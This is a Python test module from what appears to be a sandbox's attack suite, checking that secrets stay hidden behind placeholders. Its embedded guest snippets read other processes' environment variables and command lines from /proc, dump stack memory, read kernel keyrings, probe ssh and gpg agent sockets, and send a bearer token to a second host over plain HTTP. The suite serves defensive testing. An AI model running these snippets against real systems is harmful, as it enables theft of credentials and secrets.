"""I: secrets. The guest has a placeholder; the value goes to the secret's own host, and nowhere else.

The arm without the control does what callers without the gateway do: it gives the guest the value.
"""

from __future__ import annotations

from ringfence.policy.secrets import Secret
from ringfence_attacks.case import BARE, HOST_CODE, LEAK, Seen, attack, cases, not_applicable

TYPE_CHECKING = False
if TYPE_CHECKING:
    from ringfence.policy.model import Policy
    from ringfence_attacks.arena import Arm
    from ringfence_attacks.tls_server import Echo

_LABEL = "placeholder"


def _given(arm: Arm, server: Echo) -> Policy:
    """Return a policy with the canary as TOKEN: a secret, or in the arm without the control a plain variable."""
    from ringfence_attacks import tls_server

    if arm.off:
        return tls_server.policy(server).replace(env={"TOKEN": arm.canary})
    return tls_server.policy(server, Secret("TOKEN", arm.canary, hosts=[tls_server.HOST]))


_ENVIRON = """
import subprocess
subprocess.run([sys.executable, "-c", "import time; time.sleep(0.2)"])
for pid in os.listdir("/proc"):
    if pid.isdigit(): steal(f"/proc/{pid}/environ")
loot(str(dict(os.environ)))
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps:
        ends = line.split()[0].split("-")
        if "[stack]" in line:
            memory.seek(int(ends[0], 16)); loot(memory.read(int(ends[1], 16) - int(ends[0], 16))[-65536:])
"""


@attack(
    "I01", "a secret is in no environment inside, nor on a stack", LEAK, off=HOST_CODE, needs="network", label=_LABEL
)
def environment(arm: Arm) -> Seen:
    from ringfence_attacks import tls_server

    report = arm.python(_ENVIRON, policy=_given(arm, tls_server.echo(arm)))
    return arm.stolen(report)


_ARGUMENTS = """
import subprocess
child = subprocess.Popen(["cat", "-", os.environ["TOKEN"]], stdin=subprocess.PIPE)
time.sleep(0.05)  # Popen may return a moment before the kernel shows the new arguments
for pid in os.listdir("/proc"):
    if pid.isdigit(): steal(f"/proc/{pid}/cmdline")
child.kill(); child.wait()
"""


@attack("I02", "a secret is in the arguments of no process", LEAK, off=HOST_CODE, needs="network", label=_LABEL)
def arguments(arm: Arm) -> Seen:
    from ringfence_attacks import tls_server

    report = arm.python(_ARGUMENTS, policy=_given(arm, tls_server.echo(arm)))
    return arm.stolen(report)


_LOGGED = """
token = os.environ["TOKEN"]
asked = f"GET /{token}?key={token} HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer {token}\\r\\n"
attempt("request", fetch, host, port, asked + "Connection: close\\r\\n\\r\\n")
attempt("bad request", fetch, host, port, f"GET {token} HTTP/1.1\\r\\n{token}\\r\\n\\r\\n")
"""


@attack("I03", "a secret is in no log, result or denial", LEAK, off=HOST_CODE, needs="network", label=_LABEL)
def logs(arm: Arm) -> Seen:
    """The witness is all that the caller gets. The server must have received the value, else nothing is proven."""
    from ringfence.policy.model import Rule
    from ringfence_attacks import tls_server

    server = tls_server.echo(arm)
    policy = _given(arm, server)
    rule = Rule(f"{tls_server.HOST}:{server.port}", methods=["GET"])  # makes the gateway read requests in both arms
    policy = policy.replace(network=tls_server.policy(server, rules=(rule,), allow=()).network)
    box = arm.sandbox(policy)
    report = arm.python(tls_server.FETCH + _LOGGED, box=box, host=tls_server.HOST, port=server.port)
    assert report.result is not None
    seen = [report.result.to_dict(), report.result.render(), box.network.log(), box.network.summary(), box.denials()]
    if arm.canary.encode() not in server.heard:
        raise AssertionError("the value never went out, so nothing could have been logged")
    return Seen(arm.canary in str(seen), f"{len(box.network.log())} lines; {report.words()}")


_DUMP = """
with open("/workspace/dump", "wb") as file:
    file.write(str(dict(os.environ)).encode())
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try: file.write(slurp(f"/proc/{pid}/environ"))
            except OSError: pass
tell(dumped=1)
"""


@attack(
    "I04", "a secret is in no file that the guest can leave behind", LEAK, off=HOST_CODE, needs="network", label=_LABEL
)
def left_behind(arm: Arm) -> Seen:
    """Look from outside at all that a snapshot would contain: the workspace, and the trusted roots."""
    from ringfence.gateway.secrets.trust import BUNDLE, JAVA_STORE
    from ringfence_attacks import tls_server

    box = arm.sandbox(_given(arm, tls_server.echo(arm)))
    report = arm.python(_DUMP, box=box)
    kept = box.files.read("/workspace/dump")
    for path in (BUNDLE, JAVA_STORE):
        if box.files.exists(path):
            kept += box.files.read(path)
    return Seen(arm.canary.encode() in kept, f"{len(kept)} bytes; {report.words()}")


_ELSEWHERE = """
token = os.environ["TOKEN"]
for name, secure in ((other, True), (host, False), (other, False)):
    lines = ["GET / HTTP/1.1", f"Host: {name}:{port}", f"Authorization: Bearer {token}", "Connection: close", "", ""]
    asked = "\\r\\n".join(lines)
    attempt(f"{name} {'TLS' if secure else 'plain'}", fetch, name, port, asked, secure)
"""


@attack(
    "I05",
    "a secret goes only to its own host, and only over TLS",
    LEAK,
    off=HOST_CODE,
    needs="network",
    label="swap by host",
)
def elsewhere(arm: Arm) -> Seen:
    """Send the placeholder to another host, and in plain HTTP. One server has both names and keeps every byte."""
    from ringfence.policy.model import Rule
    from ringfence_attacks import tls_server

    server = tls_server.echo(arm)
    policy = _given(arm, server)
    rule = Rule(f"{tls_server.OTHER}:{server.port}", methods=["GET"])
    if not arm.off:
        policy = policy.replace(network=tls_server.policy(server, rules=(rule,)).network)
    else:
        policy = policy.replace(network=tls_server.policy(server, allow=(tls_server.HOST, tls_server.OTHER)).network)
    report = arm.python(
        tls_server.FETCH + _ELSEWHERE, policy=policy, host=tls_server.HOST, other=tls_server.OTHER, port=server.port
    )
    return Seen(arm.canary.encode() in server.heard + server.plain, report.words())


_KEYS = """
steal("/proc/keys")
buffer = ctypes.create_string_buffer(4096)
size = attempt("keyctl read", call, 250, 11, key, buffer, len(buffer))
if size: loot(buffer.raw[:size])
ring = attempt("session keyring", call, 250, 0, -3, 0)
"""


@attack("I07", "keys of the supervisor's session keyring are not read", LEAK, off=BARE)
def session_keyring(arm: Arm) -> Seen:
    key = arm.host_key()
    return arm.stolen(arm.python(_KEYS, key=key))


@attack("I07-agent", "the socket of an ssh or gpg agent is not shown", LEAK, off="view")
def agent_socket(arm: Arm) -> Seen:
    listener = arm.listen_path()
    code = """
    import socket
    sock = socket.socket(socket.AF_UNIX)
    for place in (address, "/mnt" + address):
        attempt(place, sock.connect, place)
    """
    report = arm.python(code, address=listener.address)
    came = listener.received()
    return Seen(bool(came), f"{len(came)} connections; {report.words()}")


ELSEWHERE = [
    not_applicable(
        "I06", "a guest that has a secret can pass it on", LEAK, "cannot be stopped: docs/secrets.md says so"
    ),
]

CASES = cases(globals())
